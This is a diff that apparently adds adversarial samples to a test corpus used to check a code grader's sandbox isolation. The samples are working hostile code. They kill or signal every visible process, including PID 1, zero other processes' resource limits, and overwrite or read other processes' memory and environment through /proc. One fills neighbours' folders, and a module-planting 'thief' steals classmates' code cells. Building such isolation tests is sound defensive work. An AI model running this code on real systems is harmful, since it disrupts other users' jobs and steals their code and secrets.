@@ -26,6 +26,79 @@ def _broken(self):
 Optimizer.step = _broken
 """
 
+# Every process the attacker can name: PID 1, its parent, whatever /proc lists, but itself.
+OTHERS = """
+import os
+def others():
+    listed = {int(p) for p in os.listdir("/proc") if p.isdigit()}
+    return sorted({1, os.getppid(), *listed} - {0, os.getpid()})
+"""
+
+# A module planted wherever the thief can write, under names a classmate's worker may import
+# late (numpy and the standard library import some on first use): it copies the importer's cells
+# beside itself, then hands over the real module.
+PLANTED = ("difflib", "pprint", "calendar", "unittest", "pickle", "bz2", "lzma", "gzip", "shutil", "glob",
+           "csv", "hashlib", "secrets", "uuid", "platform", "datetime", "decimal", "fractions", "queue")
+PLANT = """
+import importlib, os, sys
+here = os.path.dirname(os.path.abspath(__file__))
+frame = sys._getframe(1)
+while frame is not None:
+    cells = frame.f_locals.get("cells")
+    if isinstance(cells, list) and cells and hasattr(cells[0], "source"):
+        try:
+            with open(os.path.join(here, "stolen_cells.py"), "w") as out:
+                out.write("\\n".join(c.source for c in cells))
+        except OSError:
+            pass
+        break
+    frame = frame.f_back
+sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != here]
+del sys.modules[__name__]
+importlib.import_module(__name__)
+"""
+
+# The thief: an honest no-op (the stub) that plants PLANT, drops its own classes and, when the
+# grader asks for one, runs whatever cells it managed to steal.
+THIEF = f"""
+import os, tempfile, time
+places = {{os.getcwd(), os.path.dirname(os.getcwd()), "/tmp", "/scratch", "/dev/shm", "/var/tmp",
+          os.path.expanduser("~"), tempfile.gettempdir()}}
+for top in ("/tmp", "/scratch", "/tmp/tito-jobs"):
+    try:
+        places |= {{os.path.join(top, d) for d in os.listdir(top)}}
+    except OSError:
+        pass
+
+def plant():
+    for place in places:
+        for module in {PLANTED!r}:
+            try:
+                with open(os.path.join(place, module + ".py"), "w") as f:
+                    f.write({PLANT!r})
+            except OSError:
+                pass
+
+plant()
+for name, value in list(globals().items()):
+    if getattr(value, "__module__", None) == __name__ and isinstance(value, type):
+        del globals()[name]
+
+def __getattr__(name):
+    for _ in range(30):
+        for place in places:
+            try:
+                source = open(os.path.join(place, "stolen_cells.py")).read()
+            except OSError:
+                continue
+            exec(source, globals())
+            if name in globals():
+                return globals()[name]
+        plant()  # again: a grader may clean its shared folders
+        time.sleep(0.05)
+    raise AttributeError(name)
+"""
+
 CORPUS = {
     # Leaving early
     "sys_exit_at_import": ("solution", "import sys\nsys.exit(0)", "stub"),
@@ -95,6 +168,95 @@ for stream in (sys.stdout, sys.stderr):
             stream.write("x" * 1_000_000)
     except OSError:
         pass""", "solution"),
+    # Reaching the zygote and the classmates graded beside it
+    "kills_every_process_it_can": ("solution", OTHERS + """
+import signal
+for pid in [-1, *others()]:
+    for sig in (signal.SIGKILL, signal.SIGINT, signal.SIGSTOP):
+        try:
+            os.kill(pid, sig)
+        except OSError:
+            pass""", "solution"),
+    "signals_pid_1_and_its_parent": ("solution", """
+import os, signal
+signal.signal(signal.SIGINT, signal.SIG_IGN)
+for pid in {1, os.getppid()} - {0, os.getpid()}:
+    for sig in (signal.SIGINT, signal.SIGKILL):
+        try:
+            os.kill(pid, sig)
+        except OSError:
+            pass""", "solution"),
+    "limits_the_zygote_and_its_parent": ("solution", OTHERS + """
+import resource
+for pid in others():
+    for limit in (resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC, resource.RLIMIT_AS, resource.RLIMIT_CPU):
+        try:
+            resource.prlimit(pid, limit, (0, 0))
+        except (OSError, ValueError):
+            pass""", "solution"),
+    "writes_others_memory": ("solution", OTHERS + """
+for pid in others():
+    try:
+        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem:
+            for line in maps:
+                start, end = (int(x, 16) for x in line.split()[0].split("-"))
+                if line.split()[1].startswith("rw"):
+                    mem.seek(start)
+                    mem.write(bytes(min(end - start, 1 << 16)))
+    except OSError:
+        pass""", "solution"),
+    "reads_others_environ_and_memory": ("stub", OTHERS + """
+STOLEN = []
+for pid in others():
+    for name in ("environ", "mem", "cmdline"):
+        try:
+            with open(f"/proc/{pid}/{name}", "rb") as f:
+                STOLEN.append(f.read(4096))
+        except OSError:
+            pass""", "at_most_stub"),
+    "fills_a_neighbours_folder": ("solution", """
+import os, time
+mine = os.path.realpath(os.getcwd())
+folders = set()
+for top in ("/scratch", "/tmp", "/tmp/tito-jobs", os.path.dirname(mine)):
+    try:
+        folders |= {os.path.join(top, d) for d in os.listdir(top)}
+    except OSError:
+        pass
+for folder in folders - {mine}:
+    try:
+        with open(os.path.join(folder, "junk"), "wb") as f:
+            for _ in range(36):
+                f.write(bytes(2**20))
+    except OSError:
+        pass
+time.sleep(0.3)
+for folder in folders - {mine}:
+    try:
+        os.unlink(os.path.join(folder, "junk"))
+    except OSError:
+        pass""", "solution"),
+    "plants_modules_for_classmates": ("stub", THIEF, "at_most_stub"),
+    "uses_a_late_import_in_adam_step": ("solution", """
+_step = Adam.step
+def _step_with_a_late_import(self):
+    import difflib  # imported by nothing before: found on the worker's sys.path, now
+    return _step(self)
+Adam.step = _step_with_a_late_import""", "solution"),
+    # Correct code that prints or writes files
+    "prints_10_mb": ("solution", """
+import sys
+print("x" * 10_000_000)
+print("y" * 1_000_000, file=sys.stderr)""", "solution"),
+    "writes_files_where_it_may": ("solution", """
+import os, tempfile
+for folder in (tempfile.gettempdir(), "/tmp", os.path.expanduser("~"), os.getcwd()):
+    path = os.path.join(folder, "notes.txt")
+    with open(path, "w") as f:
+        f.write("a note" * 1000)
+    assert open(path).read() == "a note" * 1000
+with tempfile.NamedTemporaryFile() as f:
+    f.write(b"temporary")""", "solution"),
     # Cheating
     "patches_numpy": ("stub", """
 import numpy as np
